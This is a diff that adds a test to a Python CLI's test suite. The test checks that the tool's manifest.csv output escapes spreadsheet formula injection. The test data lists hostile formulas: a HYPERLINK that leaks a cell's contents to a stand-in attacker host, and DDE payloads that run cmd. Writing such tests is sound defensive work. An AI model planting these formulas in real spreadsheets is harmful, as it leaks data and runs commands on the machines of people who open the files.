@@ -75,3 +75,39 @@ def test_an_alias_in_the_profile_is_refused_at_its_line(runner, in_tmp, isolated
 def test_deep_nesting_is_refused_not_a_recursion_error(runner, in_tmp):
     (in_tmp / "deep.yaml").write_text("ua: " + "[" * 5000 + "]" * 5000 + "\n")
     one_line_error(runner.invoke(app, ["validate", "deep.yaml"]), "deep.yaml:1: invalid YAML")
+
+
+# --- 2. formula injection in manifest.csv -------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def write_roster(path: Path, names: list[str], emails: bool = True) -> Path:
+    import csv
+
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        table = csv.writer(handle)
+        table.writerow(["name", "city", "email"])
+        for i, name in enumerate(names):
+            table.writerow([name, "Oxford", f"w{i}@example.org" if emails else ""])
+    return path
+
+
+def test_manifest_cells_never_start_a_formula(runner, in_tmp):
+    import csv
+
+    roster = write_roster(in_tmp / "list.csv", FORMULAS)
+    result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "--separate",
+                                 "--to", "qin-gang", "-q", *ON])
+    assert result.exit_code == 0, result.output
+    text = (in_tmp / "out" / "manifest.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(text.splitlines()))[1:]
+    assert len(rows) == 2 * len(FORMULAS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    writers = [row[1] for row in rows if row[4] == "post"]
+    assert writers == ["'" + name for name in FORMULAS]  # readable: the value follows the '
+    files = [row[5] for row in rows]
+    assert all((in_tmp / "out" / name.removeprefix("'")).is_file() for name in files)
